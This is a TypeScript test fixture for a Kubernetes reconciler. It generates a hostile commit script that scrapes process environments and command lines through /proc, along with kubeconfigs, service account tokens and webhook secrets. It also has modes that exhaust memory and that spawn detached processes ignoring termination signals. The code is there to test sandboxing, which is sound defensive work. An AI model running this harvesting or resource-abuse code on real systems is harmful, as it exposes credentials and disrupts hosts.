// A hostile commit, as issue 10 tried it: a bin/clusterops.js that goes after the reconciler's
// secrets (its environment and command line through /proc, the kubeconfig, the webhook secret),
// prints them, hogs memory, or outlives the reconciler. It speaks both the manifest-sets/v1
// interface and the old text output, so the same commit runs against any SynthRunner.
import { TestRepo } from '../../unit/reconciler/_git-repo.js';

/** What the hostile code does after looking for secrets. */
export type HostileMode =
  /** Puts everything it read into a ConfigMap (the synth succeeds): the test reads its loot. */
  | 'report'
  /** Prints what it found to stderr and fails: the loot would go into the SynthError message. */
  | 'leak'
  /** Allocates 3 GiB of Buffers, then synthesizes. */
  | 'hog'
  /** Starts a detached grandchild and loops forever, ignoring SIGTERM and SIGHUP. */
  | 'linger';

/** The hostile bin/clusterops.js; `files` are the paths it tries (the test's kubeconfig and webhook secret). */
export function hostileScript(mode: HostileMode, files: { kubeconfig: string; webhookSecret: string }, marker = 'hostile-commit'): string {
  return `
import { readFileSync, readdirSync } from 'node:fs';
import { spawn } from 'node:child_process';
import os from 'node:os';
const read = (p) => { try { return readFileSync(p, 'utf8'); } catch { return ''; } };
const list = (p) => { try { return readdirSync(p); } catch { return []; } };
const emit = (sets) => process.stdout.write(process.argv.includes('--format')
  ? JSON.stringify({ apiVersion: 'clusterops.io/manifest-sets/v1', sets }) + '\\n'
  : sets.map((s) => '# clusterops manifest set: ' + s.id + '\\n' + s.objects.map((o) => JSON.stringify(o)).join('\\n---\\n') + '\\n').join(''));
const configMap = (data) => ({ id: 'management.hostile', target: { kind: 'management', stage: 'hostile' }, objects: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'loot', namespace: 'hostile' }, data }] });

// The parent chain first (the reconciler), then every process in view.
const parents = [];
for (let pid = process.ppid, i = 0; pid > 1 && i < 6; i++) {
  parents.push(read('/proc/' + pid + '/environ') + ' ' + read('/proc/' + pid + '/cmdline'));
  const stat = read('/proc/' + pid + '/stat');
  pid = stat ? Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) : 0;
}
const everyone = list('/proc').filter((p) => /^\\d+$/.test(p)).map((p) => read('/proc/' + p + '/environ') + ' ' + read('/proc/' + p + '/cmdline'));
const kubeconfig = read(${JSON.stringify(files.kubeconfig)}) + read(os.homedir() + '/.kube/config') + read('/var/run/secrets/kubernetes.io/serviceaccount/token');
const webhookSecret = read(${JSON.stringify(files.webhookSecret)});
const loot = { parents: parents.join('\\n'), everyone: everyone.join('\\n'), kubeconfig, webhookSecret, env: JSON.stringify(process.env) };
for (const k of Object.keys(loot)) loot[k] = loot[k].replace(/\\0/g, ' ');
const mode = ${JSON.stringify(mode)};

if (mode === 'report') emit([configMap(loot)]);
if (mode === 'leak') {
  const interesting = loot.parents.split(/\\s/).filter((w) => /SECRET|TOKEN|KEY|:\\/\\/[^@]+@/i.test(w));
  process.stderr.write('clusters/hostile/a.yaml:1: looking around\\n' + interesting.join('\\n') + '\\nfound kubeconfig:\\n' + loot.kubeconfig + '\\nfound webhook secret: ' + loot.webhookSecret + '\\n');
  process.exit(1);
}
if (mode === 'hog') {
  const held = [];
  for (let i = 0; i < 12; i++) held.push(Buffer.alloc(256 * 1024 * 1024, 1));
  emit([configMap({ allocatedMiB: String(held.length * 256) })]);
}
if (mode === 'linger') {
  for (const s of ['SIGTERM', 'SIGHUP', 'SIGINT']) process.on(s, () => {});
  spawn(process.execPath, ['-e', 'for (const s of ["SIGTERM", "SIGHUP"]) process.on(s, () => {}); setInterval(() => {}, 1000);', ${JSON.stringify(marker)}], { detached: true, stdio: 'ignore' }).unref();
  setInterval(() => {}, 1000);
}
`;
}

/** A real git repository whose one commit is the hostile code and an (empty) fleet. */
export function hostileRepo(mode: HostileMode, files: { kubeconfig: string; webhookSecret: string }, marker?: string): TestRepo {
  const repo = new TestRepo('main');
  repo.write('package.json', JSON.stringify({ name: 'fleet', type: 'module', private: true }));
  repo.write('bin/clusterops.js', hostileScript(mode, files, marker));
  repo.write('clusters/hostile/a.yaml', '{}\n');
  repo.commit(`a hostile commit (${mode})`);
  return repo;
}
